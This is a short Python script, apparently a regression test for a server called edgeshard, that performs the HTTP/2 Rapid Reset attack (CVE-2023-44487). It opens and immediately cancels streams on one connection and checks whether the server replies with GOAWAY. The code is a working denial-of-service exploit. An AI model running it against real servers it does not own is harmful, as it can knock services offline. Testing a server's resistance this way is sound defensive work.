"""Rapid reset (CVE-2023-44487) against edgeshard: open streams and cancel each at once, on one
connection, until the server sends GOAWAY (or N streams are sent). Prints what happened.
Usage: python3 rapid_reset.py HOST PORT AUTHORITY N. Driven by tests/http2.rs."""
import socket
import sys

import h2.config
import h2.connection
import h2.events

from h2common import get, tls_h2

host, port, authority, n = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
s = tls_h2(host, port)
c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
c.initiate_connection()
s.sendall(c.data_to_send())
s.settimeout(0.005)
goaway = None
sent = 0
refused = 0


def pump():
    global goaway, refused
    try:
        data = s.recv(65536)
    except socket.timeout:
        return True
    except OSError:
        return False
    if not data:
        return False
    for ev in c.receive_data(data):
        if isinstance(ev, h2.events.ConnectionTerminated):
            goaway = ev.error_code
        if isinstance(ev, h2.events.StreamReset) and ev.error_code == 7:
            refused += 1
    try:
        s.sendall(c.data_to_send())
    except OSError:
        return False
    return True


for _ in range(n):
    if goaway is not None:
        break
    try:
        sid = c.get_next_available_stream_id()
        c.send_headers(
            sid,
            get(authority, "/slow"),
            end_stream=True,
        )
        c.reset_stream(sid)
        s.sendall(c.data_to_send())
    except Exception:
        break
    sent += 1
    if not pump():
        break
# whatever is still on its way (the GOAWAY), for up to a second
s.settimeout(1)
for _ in range(50):
    if goaway is not None or not pump():
        break
print(f"sent={sent} goaway={goaway} refused={refused}")
